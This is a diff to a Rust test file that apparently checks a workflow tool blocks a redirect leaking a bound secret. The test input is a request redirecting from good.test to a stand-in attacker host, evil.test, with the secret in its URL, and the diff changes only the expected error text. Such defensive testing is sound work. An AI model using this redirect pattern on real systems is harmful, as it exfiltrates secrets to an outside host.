@@ -139,7 +139,11 @@ fn a_redirect_does_not_carry_a_bound_secret_in_its_url() {
     .run("inputs: { secret: { secret: true } }\nsteps:\n  - request: \"GET http://good.test/_wxflow/redirect?to=http://evil.test/_wxflow/echo?{{ secret }}\"\n")
     .failed();
     assert_eq!(ran.sent.len(), 1);
-    assert!(ran.wrong()[0].contains("nothing was sent to evil.test"), "{:?}", ran.wrong());
+    assert!(
+        ran.wrong()[0].contains("evil.test has a secret in its location: nothing was sent there"),
+        "{:?}",
+        ran.wrong()
+    );
 }
 
 #[test]
